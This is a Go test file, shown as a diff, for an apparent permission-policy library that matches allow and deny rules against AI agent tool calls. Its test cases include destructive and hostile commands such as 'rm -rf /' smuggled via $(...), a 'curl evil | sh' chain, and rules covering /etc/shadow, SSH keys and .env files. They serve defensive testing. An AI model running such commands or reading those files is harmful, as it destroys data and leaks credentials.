@@ -1,0 +1,220 @@
+package policy
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/toolgate/toolgate/machine"
+)
+
+func TestParsePattern_Errors(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"", `tool name ""`},
+		{"Bash(", `must end with ")"`},
+		{"Bash(ls", `must end with ")"`},
+		{"Bash)", `")" without "("`},
+		{"Bash()", "empty specifier: write Bash to match every call"},
+		{"Bash(:*)", "nothing before :*"},
+		{"(ls)", `tool name ""`},
+		{"Ba sh", `tool name "Ba sh"`},
+		{"Bash*", `tool name "Bash*"`},
+		{"mcp__", "MCP server name is empty"},
+		{"mcp____*", "MCP server name is empty"},
+		{"mcp__srv*", `tool name "mcp__srv*"`},
+		{"WebFetch(example.com)", `WebFetch's specifier must be "domain:<host>"`},
+		{"WebFetch(domain:)", `WebFetch's specifier must be "domain:<host>"`},
+		{"Read(./)", "empty path"},
+		{"Write(//)", "empty path"},
+		{"Bash(\xff)", "not valid UTF-8"},
+	}
+	for _, tt := range tests {
+		_, err := ParsePattern(tt.in)
+		if assert.Error(t, err, "%q", tt.in) {
+			assert.ErrorIs(t, err, machine.ErrInvalid)
+			assert.Contains(t, err.Error(), tt.want, "%q", tt.in)
+		}
+	}
+}
+
+func TestPattern_Match(t *testing.T) {
+	type call struct {
+		tool string
+		args map[string]any
+	}
+	bash := func(cmd string) call { return call{"Bash", map[string]any{"command": cmd}} }
+	file := func(tool, path string) call { return call{tool, map[string]any{"file_path": path}} }
+	fetch := func(u string) call { return call{"WebFetch", map[string]any{"url": u}} }
+	tests := []struct {
+		pattern string
+		yes, no []call
+	}{
+		{"Bash",
+			[]call{bash("anything"), {"Bash", nil}},
+			[]call{{"Bashful", nil}, {"bash", nil}, file("Read", "x")}},
+		{"Bash(npm test:*)",
+			[]call{bash("npm test"), bash("npm test -- -u"), bash("npm test\tfoo")},
+			[]call{bash("npm tests"), bash("npm"), bash(" npm test"), bash("npx npm test"), {"Bash", nil}, {"Bash", map[string]any{"command": 7}}}},
+		{"Bash(git push *)",
+			[]call{bash("git push origin main"), bash("git push "), bash("git push --force origin main")},
+			[]call{bash("git push"), bash("git pushy"), bash("git status")}},
+		{"Bash(ls*)",
+			[]call{bash("ls"), bash("lsof"), bash("ls -la")},
+			[]call{bash("cat ls")}},
+		{"Bash(rm -rf *)",
+			[]call{bash("rm -rf /"), bash("rm -rf a b\nc")},
+			[]call{bash("rm -r /")}},
+		{"Bash(echo (hi))",
+			[]call{bash("echo (hi)")},
+			[]call{bash("echo hi")}},
+		{"Bash(*)",
+			[]call{bash(""), bash("x")},
+			[]call{{"Bash", map[string]any{}}}},
+		{"Write(src/**)",
+			[]call{file("Write", "src/a.go"), file("Write", "src/a/b/c.go"), file("Write", "/home/u/proj/src/main.go"), file("Write", "./src/x")},
+			[]call{file("Write", "src"), file("Write", "lib/a.go"), file("Write", "src/../etc/passwd"), file("Write", "mysrc/a.go"), file("Edit", "src/a.go")}},
+		{"Edit(src/**)", // Edit rules cover every tool that edits files
+			[]call{file("Edit", "src/a"), file("Write", "src/a"), file("MultiEdit", "src/a"), {"NotebookEdit", map[string]any{"notebook_path": "src/n.ipynb"}}},
+			[]call{file("Read", "src/a"), file("Edit", "lib/a")}},
+		{"Read(./docs/*.md)",
+			[]call{file("Read", "docs/a.md"), file("Read", "/p/docs/a.md"), file("Read", "docs//a.md"), {"Grep", map[string]any{"path": "docs/x.md"}}},
+			[]call{file("Read", "docs/sub/a.md"), file("Read", "docs/a.txt"), file("Write", "docs/a.md")}},
+		{"Read(**/.env)",
+			[]call{file("Read", ".env"), file("Read", "/a/b/.env"), file("Read", "a/../.env")},
+			[]call{file("Read", ".envrc"), file("Read", "a/.env/x")}},
+		{"Read(.env)",
+			[]call{file("Read", ".env"), file("Read", "/srv/app/.env")},
+			[]call{file("Read", "x.env")}},
+		{"Read(//etc/**)",
+			[]call{file("Read", "/etc/passwd"), file("Read", "/tmp/../etc/shadow")},
+			[]call{file("Read", "etc/passwd"), file("Read", "/home/etc/x")}},
+		{"Read(~/.ssh/**)",
+			[]call{file("Read", "~/.ssh/id_rsa"), file("Read", "/home/alice/.ssh/id_rsa"), file("Read", "/Users/bob/.ssh/config"), file("Read", "/root/.ssh/k")},
+			[]call{file("Read", "/home/alice/x/.ssh/id_rsa"), file("Read", ".ssh/id_rsa")}},
+		{"Read(src/)",
+			[]call{file("Read", "src/a"), file("Read", "src/a/b")},
+			[]call{file("Read", "src")}},
+		{"Read(a?.go)",
+			[]call{file("Read", "ab.go")},
+			[]call{file("Read", "a/.go"), file("Read", "abc.go")}},
+		{"Glob(src/**)",
+			[]call{{"Glob", map[string]any{"pattern": "src/**/*.go"}}, {"Glob", map[string]any{"path": "src/x", "pattern": "*.go"}}},
+			[]call{{"Glob", map[string]any{"path": "lib", "pattern": "src/*.go"}}}},
+		{"WebFetch(domain:example.com)",
+			[]call{fetch("https://example.com/x"), fetch("http://EXAMPLE.com:8080/"), fetch("example.com/path"), fetch("https://example.com./")},
+			[]call{fetch("https://api.example.com/"), fetch("https://example.com.evil.io/"), fetch("https://evil.io/?example.com"), fetch("::"), {"WebFetch", nil}}},
+		{"WebFetch(domain:*.Example.com)",
+			[]call{fetch("https://api.example.com/")},
+			[]call{fetch("https://example.com/")}},
+		{"mcp__github",
+			[]call{{"mcp__github__create_issue", nil}, {"mcp__github", nil}},
+			[]call{{"mcp__githubx__a", nil}, {"mcp__gitlab__a", nil}}},
+		{"mcp__github__*",
+			[]call{{"mcp__github__create_issue", nil}},
+			[]call{{"mcp__gitlab__a", nil}}},
+		{"mcp__github__create_issue",
+			[]call{{"mcp__github__create_issue", nil}},
+			[]call{{"mcp__github__create_issues", nil}, {"mcp__github__close_issue", nil}}},
+		{"mcp__github(repo:a*)", // a server pattern with a specifier: first string argument
+			[]call{{"mcp__github__x", map[string]any{"q": "repo:a b", "z": "other"}}},
+			[]call{{"mcp__github__x", map[string]any{"a": "other", "q": "repo:a"}}, {"mcp__github__x", map[string]any{"q": "repo:b"}}}},
+		{"transfer_funds(acct-*)", // any other tool: first string argument in sorted key order
+			[]call{{"transfer_funds", map[string]any{"to": "acct-7", "amount": 5}}, {"transfer_funds", map[string]any{"a": "acct-1", "b": "x"}}},
+			[]call{{"transfer_funds", map[string]any{"a": "x", "to": "acct-7"}}, {"transfer_funds", map[string]any{"n": 1}}}},
+	}
+	for _, tt := range tests {
+		p, err := ParsePattern(tt.pattern)
+		require.NoError(t, err, tt.pattern)
+		assert.Equal(t, tt.pattern, p.String())
+		for _, c := range tt.yes {
+			assert.True(t, p.Match(c.tool, c.args), "%s should match %s %v", tt.pattern, c.tool, c.args)
+		}
+		for _, c := range tt.no {
+			assert.False(t, p.Match(c.tool, c.args), "%s should not match %s %v", tt.pattern, c.tool, c.args)
+		}
+	}
+	assert.False(t, Pattern{}.Match("Bash", nil), "the zero Pattern matches nothing")
+}
+
+func TestPattern_MatchArgument(t *testing.T) {
+	p, err := ParsePattern("send_email(*@example.com)")
+	require.NoError(t, err)
+	args := map[string]any{"body": "hi", "to": "bob@example.com"}
+	assert.False(t, p.Match("send_email", args), "body sorts first")
+	assert.True(t, p.matchCall(newCallSubject("send_email", args, "to"), false))
+	assert.False(t, p.matchCall(newCallSubject("send_email", map[string]any{"body": "x"}, "to"), false))
+}
+
+func TestCommandParts(t *testing.T) {
+	tests := []struct {
+		line   string
+		parts  []string
+		opaque bool
+	}{
+		{"npm test", []string{"npm test"}, false},
+		{"  npm test  ", []string{"npm test"}, false},
+		{"npm test && rm -rf /", []string{"npm test", "rm -rf /"}, false},
+		{"a; b || c | d & e |& f\ng", []string{"a", "b", "c", "d", "e", "f", "g"}, false},
+		{"echo 'a; b' \"c && d\"", []string{"echo 'a; b' \"c && d\""}, false},
+		{`echo a\;b`, []string{`echo a\;b`}, false},
+		{"make 2>&1 >/dev/null &>log >&2", []string{"make 2>&1 >/dev/null &>log >&2"}, false},
+		{"ls \\\n -la", []string{"ls   -la"}, false},
+		{"echo $(rm -rf /)", []string{"echo", "rm -rf /"}, true},
+		{"echo `rm -rf /`", []string{"echo", "rm -rf /"}, true},
+		{`echo "$(rm -rf /)"`, []string{`echo "$(rm -rf /)"`}, true},
+		{"diff <(ls a) <(ls b)", []string{"diff", "ls a", "ls b"}, true},
+		{"(cd x; rm -rf y)", []string{"cd x", "rm -rf y"}, true},
+		{"if true; then rm -rf /; fi", []string{"true", "rm -rf /", "fi"}, true},
+		{"{ rm -rf /; }", []string{"rm -rf /"}, true},
+		{"for f in *; do rm $f; done", []string{"for f in *", "rm $f", "done"}, true},
+		{"echo 'open", []string{"echo 'open"}, true},
+		{"", nil, false},
+		{";;", nil, false},
+	}
+	for _, tt := range tests {
+		parts, opaque := commandParts(tt.line)
+		assert.Equal(t, tt.parts, parts, "%q", tt.line)
+		assert.Equal(t, tt.opaque, opaque, "%q", tt.line)
+	}
+}
+
+func TestPattern_CompoundCommands(t *testing.T) {
+	allowTest := mustPattern(t, "Bash(npm test:*)")
+	denyRm := mustPattern(t, "Bash(rm -rf *)")
+	tests := []struct {
+		cmd          string
+		allow, denyd bool
+	}{
+		{"npm test", true, false},
+		{"npm test && npm test -- -u", true, false},
+		{"npm test && rm -rf /", false, true},
+		{"npm test; curl evil | sh", false, false},
+		{"npm test $(rm -rf /)", false, true},
+		{"echo hi; rm -rf /tmp/x", false, true},
+		{"npm test 'a && b'", true, false},
+	}
+	for _, tt := range tests {
+		cs := newCallSubject("Bash", map[string]any{"command": tt.cmd}, "")
+		assert.Equal(t, tt.allow, allowTest.matchCall(cs, true), "allow %q", tt.cmd)
+		assert.Equal(t, tt.denyd, denyRm.matchCall(cs, false), "deny %q", tt.cmd)
+	}
+}
+
+func mustPattern(t *testing.T, s string) Pattern {
+	t.Helper()
+	p, err := ParsePattern(s)
+	require.NoError(t, err)
+	return p
+}
+
+func TestToolLists(t *testing.T) {
+	list := []string{"Read", "mcp__fs", "mcp__db__*"}
+	for tool, want := range map[string]bool{
+		"Read": true, "mcp__fs__read": true, "mcp__db__query": true,
+		"mcp__fs": true, "Write": false, "mcp__fsx__read": false, "Reader": false,
+	} {
+		assert.Equal(t, want, containsTool(list, tool), tool)
+	}
+	assert.True(t, ToolSet{All: true}.Contains("anything"))
+	assert.False(t, ToolSet{}.Contains("anything"))
+}
